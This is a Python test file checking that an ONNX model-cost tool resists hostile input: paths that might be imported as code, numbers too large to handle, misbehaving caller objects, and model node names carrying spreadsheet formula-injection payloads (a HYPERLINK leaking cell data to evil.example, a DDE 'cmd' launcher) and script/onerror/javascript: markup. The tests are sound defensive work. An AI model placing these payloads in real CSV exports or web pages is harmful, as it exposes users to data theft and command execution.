"""Hostile input at graphcost's faces (issue #49, items 7, 9, 11, 12): a path is never taken
for Python code to import; numbers past any sane bound (1e309 reads as infinity) are refused
by the option's name; names from a model stay text in a spreadsheet and a Markdown renderer;
a caller's object that misbehaves is a bad argument, never an internal error."""
from __future__ import annotations

import csv
import io
import json
import os
import time

import onnx
import pytest
from graphcost.analyzer.app.api import analyze
from graphcost.analyzer.app.units import parse_size
from graphcost.analyzer.load.model_names import file_class
from graphcost.analyzer.render.files import render_csv, render_markdown
from graphcost.passes.device.fits import Overhead
from graphcost.passes.device_rates import DeviceRates
from graphcost.passes.errors import GraphcostError
from markdown_it import MarkdownIt

from tests.cli_runner import run_cli
from tests.onnx_builders import model, node


def one_line_error(p, *needles: str) -> str:
    assert p.returncode == 2, (p.returncode, p.stdout[-500:], p.stderr[-500:])
    lines = p.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("graphcost: error: "), p.stderr
    assert "internal error" not in p.stderr and "Traceback" not in p.stderr
    for n in needles:
        assert n in lines[0], (n, lines[0])
    return lines[0]


@pytest.fixture
def relu(tmp_path):
    path = tmp_path / "m.onnx"
    onnx.save(model([node("Relu", ["x"], ["y"], name="r")], [("x", ["batch", 3])],
                    [("y", ["batch", 3])]), path)
    return path


# ----------------------------------------------------------------- item 7: file.py:Class

MARKER_PY = 'open("MARKER", "w").write("imported")\n'


def test_a_path_is_read_never_imported(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.py").write_text(MARKER_PY)
    (tmp_path / "models.py").write_text(MARKER_PY)
    # x.py:y.onnx is no file and y.onnx no class name: a missing file, x.py never run
    # (--input-shape: the old resolver imported the file past that check)
    line = one_line_error(run_cli("x.py:y.onnx", "--input-shape", "x=1x3"), "no such file")
    assert "not imported" in line and not (tmp_path / "MARKER").exists()
    # a folder named 'models.py:v2' (':' is allowed in a Linux file name) holding an ONNX
    # file: the path exists, so it is that file, read as ONNX; models.py is not imported
    folder = tmp_path / "models.py:v2"
    folder.mkdir()
    onnx.save(model([node("Relu", ["x"], ["y"], name="r")], [("x", [1, 3])], [("y", [1, 3])]),
              folder / "model.onnx")
    p = run_cli("models.py:v2/model.onnx", "--input-shape", "x=1x3", "--format", "json")
    assert p.returncode == 0, p.stderr
    assert [n["op"] for n in json.loads(p.stdout)["nodes"]] == ["Relu"]
    assert [n.op for n in analyze("models.py:v2/model.onnx").nodes] == ["Relu"]
    assert not (tmp_path / "MARKER").exists()


def test_what_reads_as_file_py_class(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert file_class("x.py:Net") == ("x.py", "Net")
    assert file_class("a:b/x.py:Net") == ("a:b/x.py", "Net")  # the last ':' splits
    for text in ("x.py:y.onnx", "x.py:v2/model.onnx", "x.py:", "x.py:Net.Inner", "x.pyc:Net",
                 "x.onnx", "x.py:1Net"):
        assert file_class(text) is None, text
    (tmp_path / "x.py:Net").write_text("")  # a file of that very name is a file
    assert file_class("x.py:Net") is None


# ------------------------------------------------------------ item 9: numbers past float

@pytest.mark.parametrize("args, flag", [
    (["--overhead", "context=1e309"], "--overhead"),
    (["--train", "--checkpoint", "auto", "--budget", "1e309"], "--budget"),
    (["--device-spec", "flops=19.5T,bandwidth=1555G,memory=1e309"], "--device-spec"),
    # finite but past int64: named as --device-spec, not as the API's device
    (["--device-spec", "flops=19.5T,bandwidth=1555G,memory=1e30"], "--device-spec"),
    (["check", "--max-peak", "1e309"], "--max-peak"),
    (["check", "--max-activations", "1e309"], "--max-activations"),
    (["check", "--max-params", "1e309"], "--max-params"),   # was "PASS params 0 ≤ infT"
    (["check", "--max-gflops", "1e300"], "--max-gflops"),
    (["check", "--device", "a100-40gb", "--max-latency", "1e309s"], "--max-latency"),
])
def test_numbers_past_any_bound_are_refused_by_name(relu, args, flag):
    argv = [args[0], relu, *args[1:]] if args[0] == "check" else [relu, *args]
    one_line_error(run_cli(*argv), flag, "too large")


def test_size_bound_is_int64():
    # 2^63 = 9,223,372,036,854,775,808: 9.2e18 is below it, 9.3e18 past it
    assert parse_size("9.2e18") == 9_200_000_000_000_000_000
    with pytest.raises(GraphcostError, match="too large"):
        parse_size("9.3e18")


# --------------------------------------------------- item 11: CSV and Markdown stay text

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd",
    "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "a|b|c", "`tick", "[link](javascript:alert(1))",
    "line\nbreak", "back\\", "fine_name",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_names(tmp_path):
    nodes, prev = [], "x"
    for i, name in enumerate(HOSTILE_NAMES):
        nodes.append(node("Relu", [prev], [f"v{i}"], name=name))
        prev = f"v{i}"
    path = tmp_path / "names.onnx"
    onnx.save(model(nodes, [("x", [1, 3])], [(prev, [1, 3])]), path)
    return path


def check_csv(text: str, names: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))  # (newline="": as csv asks)
    header, body = rows[0], rows[1:]
    assert len(body) == len(names)
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA), (cell, row)
    col = {h: i for i, h in enumerate(header)}
    for row, name in zip(body, names):
        # recognisable: the name as it was, behind the one quote when it led with a formula
        assert row[col["name"]] == ("'" + name if name.startswith(FORMULA) else name)
        # numbers stay numbers: a Relu of 1×3 float32 makes 3 FLOPs, reads and writes 12 B
        assert [row[col[k]] for k in ("macs", "flops", "bytes_read", "bytes_written")] == \
            ["0", "3", "12", "12"]


def check_markdown(text: str, nodes: int) -> None:
    assert "<script" not in text and "<img" not in text
    # markdown-it-py (rich's Markdown parser): CommonMark with GitHub's tables
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    inline = [c for t in tokens if t.children for c in t.children]
    assert not [c for c in inline if c.type in ("html_inline", "link_open", "image")]
    # the node table: a header and one row per node, every row 12 cells (a | in a name, a
    # backtick or a line break would add or merge cells, or end the table early)
    start = next(i for i, t in enumerate(tokens) if t.type == "table_open"
                 and any(x.content == "node" for x in tokens[i:i + 12] if x.type == "inline"))
    end = next(i for i in range(start, len(tokens)) if tokens[i].type == "table_close")
    rows: list[int] = []
    for t in tokens[start:end]:
        if t.type == "tr_open":
            rows.append(0)
        elif t.type in ("td_open", "th_open"):
            rows[-1] += 1
    assert rows == [12] * (1 + nodes), rows
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "a|b|c" in html


def test_report_files_keep_names_as_text(hostile_names):
    # control characters are shown escaped ('\t' as a backslash and a t), as the command line
    # shows them; the API's report is rendered without the command line's escaping
    shown = [n.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n")
             for n in HOSTILE_NAMES]
    r = analyze(hostile_names)
    check_csv(render_csv(r), shown)
    check_markdown(render_markdown(r), len(HOSTILE_NAMES))
    p = run_cli(hostile_names, "--format", "csv")
    assert p.returncode == 0, p.stderr
    check_csv(p.stdout, shown)
    p = run_cli(hostile_names, "--format", "markdown")
    assert p.returncode == 0, p.stderr
    check_markdown(p.stdout, len(HOSTILE_NAMES))


# ------------------------------------------ item 12: a caller's object is a bad argument

class Boom(Exception):
    pass


def boom(*_args, **_kwargs):
    raise Boom("the caller's own method")


class RaisesLen:
    __len__ = boom


class RaisesRepr:
    __repr__ = boom


class RaisesHash:
    __hash__ = boom  # type: ignore[assignment]


class RaisesIter:
    __iter__ = boom


class RaisesIndex:
    __index__ = boom


class RaisesEq:
    __eq__ = boom  # type: ignore[assignment]
    __hash__ = object.__hash__


class RaisesBool:
    __bool__ = boom


class IntPath(os.PathLike):
    def __fspath__(self):
        return 3


class EvilStr(str):
    """A str whose every method the checks might call raises."""
    __hash__ = __eq__ = __ne__ = __len__ = __iter__ = __contains__ = boom  # type: ignore
    __repr__ = __str__ = __format__ = startswith = endswith = lower = strip = boom  # type: ignore
    split = partition = removeprefix = replace = boom  # type: ignore


class EvilKey(str):
    """A str that hashes (to be a dict key) and raises in every other method."""
    __eq__ = object.__eq__
    __hash__ = str.__hash__
    __len__ = __iter__ = __repr__ = __str__ = __format__ = lower = strip = boom  # type: ignore


class EvilInt(int):
    __index__ = __int__ = __le__ = __lt__ = __ge__ = __gt__ = __eq__ = __hash__ = boom  # type: ignore
    __repr__ = __str__ = __format__ = __bool__ = boom  # type: ignore


class EvilDict(dict):
    __iter__ = __len__ = __getitem__ = __contains__ = __bool__ = __repr__ = boom  # type: ignore
    items = keys = values = get = boom  # type: ignore


class EvilList(list):
    __iter__ = __len__ = __getitem__ = __repr__ = __bool__ = boom  # type: ignore


HOSTILE = {
    "raises in __len__": RaisesLen(), "raises in __repr__": RaisesRepr(),
    "raises in __hash__": RaisesHash(), "raises in __iter__": RaisesIter(),
    "raises in __index__": RaisesIndex(), "raises in __eq__": RaisesEq(),
    "raises in __bool__": RaisesBool(), "__fspath__ returns an int": IntPath(),
    "a 1 MB string": "a" * (1 << 20), "a str subclass that raises": EvilStr("nonsense"),
    "an int subclass that raises": EvilInt(-1), "a dict subclass that raises": EvilDict(a=1),
    "a list subclass that raises": EvilList([1, 3]),
}
ARGUMENTS = ("batch", "dims", "input_shapes", "input_dtypes", "include_inputs", "inplace",
             "lifetimes", "zoo_exporter", "progress", "train", "optimizer", "checkpoint",
             "precision", "device", "tf32", "overhead", "what_if", "parallel",
             "optimizer_impl", "serve", "all_layers", "attention", "allocator", "dtype")
# the caller's object inside an argument's mapping or list
NESTED = {
    "dims": {"batch": RaisesRepr()}, "input_shapes": {"x": [1, RaisesIndex()]},
    "input_shapes ": {"x": EvilList([1, 3])}, "input_dtypes": {"x": RaisesRepr()},
    "dims ": {EvilKey("nonsense"): 2}, "checkpoint": {"every": RaisesRepr()},
    "parallel": {"strategy": "ddp", "world_size": RaisesEq()},
    "parallel ": {"strategy": "ddp", "world_size": 2, "units": EvilList(["a"])},
    "serve": {"prompt": RaisesRepr(), "generate": 1},
    "device": DeviceRates("d", "d", EvilDict(fp32=1e12), 1e12, 1 << 30),  # type: ignore[arg-type]
    "device ": DeviceRates("d", "d", {"fp32": 1e12}, RaisesRepr(), 1 << 30),  # type: ignore
    "overhead": Overhead(RaisesRepr()),  # type: ignore[arg-type]
}


def refused(model_path, **kwargs) -> str:
    start = time.perf_counter()
    with pytest.raises(GraphcostError) as info:
        analyze(model_path, **kwargs)
    message = str(info.value)
    assert "internal error" not in message, message
    assert len(message) < 400 and "\n" not in message, message[:400]
    assert time.perf_counter() - start < 2.0  # refused before any work
    return message


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("arg", ARGUMENTS)
def test_a_misbehaving_argument_is_named(relu, arg, what):
    message = refused(relu, **{arg: HOSTILE[what]})
    assert arg in message, message


@pytest.mark.parametrize("what", [*HOSTILE, "a part past NAME_MAX"])
def test_a_misbehaving_model_argument(what):
    # a 300-byte file name: stat fails with ENAMETOOLONG, where "no such file" was expected
    refused(HOSTILE.get(what, "a" * 300 + ".onnx"))


@pytest.mark.parametrize("arg", NESTED)
def test_a_misbehaving_object_inside_an_argument(relu, arg):
    extra = {"train": True} if arg.strip() in ("checkpoint", "parallel") else {}
    message = refused(relu, **{arg.strip(): NESTED[arg]}, **extra)
    assert arg.strip() in message, message
